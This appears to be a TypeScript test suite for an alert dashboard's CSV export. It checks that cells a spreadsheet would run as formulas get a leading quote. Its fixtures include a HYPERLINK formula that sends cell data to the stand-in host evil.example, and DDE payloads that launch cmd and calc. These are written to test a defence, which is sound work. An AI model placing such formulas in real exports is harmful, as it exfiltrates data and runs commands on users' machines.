// The CSV export's formula-injection guard: a text cell a spreadsheet would run as a formula gets
// a leading ' by default; csvFormulas=raw writes values exactly; JSON lines are always exact.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { csvRow, guardFormula } from '../../../src/ui/server/csv.js';
import { makeAlert, timeAt } from '../support/alerts.js';
import { parseCsv } from '../support/csv.js';
import { type Client, loggedIn, startTestUi, type TestUi } from '../support/uiServer.js';

const FORMULAS = makeAlert({
  rule: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  priority: 'Critical',
  time: timeAt(Date.now() - 1000),
  source: "@SUM(1+1)*cmd|' /C calc'!A0",
  hostname: '+1+cmd|calc',
  output: '-2+3+cmd|\' /C calc\'!A0, quoted "x"',
  tags: ['\tleading tab', 'second'],
  fields: { 'proc.name': '=cmd', 'k8s.ns.name': 'formulas' },
});
const PLAIN = makeAlert({
  rule: "a rule = fine, 'quoted' +1",
  time: timeAt(Date.now() - 2000),
  hostname: "'already quoted",
  output: '\r=after a carriage return',
  fields: { 'k8s.ns.name': 'formulas' },
});

describe('ui CSV formula guard', () => {
  let ui: TestUi;
  let c: Client;
  before(async () => {
    ui = await startTestUi();
    c = await loggedIn(ui);
    await ui.store.insert([
      { alert: FORMULAS, count: 3 },
      { alert: PLAIN, count: 1 },
    ]);
  });
  after(() => ui.close());

  const rowsOf = async (query: string) => {
    const a = await c.get(`/api/v1/alerts/export?namespace=formulas&${query}`);
    assert.equal(a.status, 200, a.text.slice(0, 300));
    const rows = parseCsv(a.text).slice(1);
    return new Map(rows.map((r) => [r[0]!, r]));
  };

  test('guardFormula: a leading = + - @ TAB or CR gets a quote, nothing else does', () => {
    for (const v of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])
      assert.equal(guardFormula(v), `'${v}`, JSON.stringify(v));
    for (const v of ['', 'a=1', ' =1', "'=1", '{"a":"=1"}', '1', '\n=1', 'x\t'])
      assert.equal(guardFormula(v), v, JSON.stringify(v));
  });

  test('csvRow: the guard comes before RFC 4180 quoting; count is never prefixed', () => {
    const a = {
      id: 'i',
      time: 't',
      priority: 'Notice',
      rule: '=a,"b"',
      source: 's',
      hostname: 'h',
      tags: [],
      output: '-x\ny',
      output_fields: {},
      count: 7,
      acknowledged_at: null,
      muted_by: null,
    };
    assert.equal(csvRow(a), `i,t,Notice,"'=a,""b""",s,h,,"'-x\ny",{},7,\r\n`);
    assert.equal(csvRow(a, 'raw'), `i,t,Notice,"=a,""b""",s,h,,"-x\ny",{},7,\r\n`);
  });

  test('export: by default every text cell a spreadsheet would run as a formula starts with a quote', async () => {
    const rows = await rowsOf('format=csv');
    const f = rows.get(FORMULAS.uuid)!;
    assert.equal(f[3], `'${FORMULAS.rule}`, 'rule');
    assert.equal(f[4], `'${FORMULAS.source}`, 'source');
    assert.equal(f[5], `'${FORMULAS.hostname}`, 'hostname');
    assert.equal(f[6], `'\tleading tab,second`, 'tags');
    assert.equal(f[7], `'${FORMULAS.output}`, 'output');
    assert.deepEqual(JSON.parse(f[8]!), FORMULAS.output_fields, 'output_fields is JSON: starts with {');
    assert.equal(f[9], '3', 'count');
    const p = rows.get(PLAIN.uuid)!;
    assert.equal(p[3], PLAIN.rule, 'a = inside a cell is not a formula');
    assert.equal(p[5], PLAIN.hostname, 'a leading quote already is text');
    assert.equal(p[7], `'${PLAIN.output}`, 'a leading CR');
    const explicit = await rowsOf('format=csv&csvFormulas=guard');
    assert.deepEqual(explicit, rows);
  });

  test('export: csvFormulas=raw writes every value exactly', async () => {
    const rows = await rowsOf('format=csv&csvFormulas=raw');
    const f = rows.get(FORMULAS.uuid)!;
    assert.deepEqual(f.slice(3, 8), [
      FORMULAS.rule,
      FORMULAS.source,
      FORMULAS.hostname,
      FORMULAS.tags.join(','),
      FORMULAS.output,
    ]);
    assert.equal(rows.get(PLAIN.uuid)![7], PLAIN.output);
  });

  test('export: JSON lines stay exact', async () => {
    const a = await c.get('/api/v1/alerts/export?namespace=formulas');
    const lines = a.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { id: string; rule: string; hostname: string; output: string; tags: string[] });
    const f = lines.find((l) => l.id === FORMULAS.uuid)!;
    assert.equal(f.rule, FORMULAS.rule);
    assert.equal(f.hostname, FORMULAS.hostname);
    assert.equal(f.output, FORMULAS.output);
    assert.deepEqual(f.tags, FORMULAS.tags);
  });

  test('csvFormulas: a bad value, a repeat, or use with JSON lines is 400 naming it', async () => {
    const error = async (query: string) => {
      const a = await c.get(`/api/v1/alerts/export?${query}`);
      assert.equal(a.status, 400, query);
      return (a.json as { error: string }).error;
    };
    assert.equal(await error('format=csv&csvFormulas=off'), 'csvFormulas: "off" must be one of guard, raw');
    assert.equal(await error('format=csv&csvFormulas=RAW'), 'csvFormulas: "RAW" must be one of guard, raw');
    assert.equal(await error('format=csv&csvFormulas=raw&csvFormulas=guard'), 'csvFormulas: given more than once');
    assert.match(await error('csvFormulas=raw'), /^csvFormulas: only with format=csv/);
    assert.match(await error('format=jsonl&csvFormulas=guard'), /^csvFormulas: only with format=csv/);
    assert.match(await error('csvformulas=raw&format=csv'), /^csvformulas: unknown parameter/);
    assert.match((await c.get('/api/v1/alerts?csvFormulas=raw')).text, /csvFormulas: unknown parameter/);
  });
});
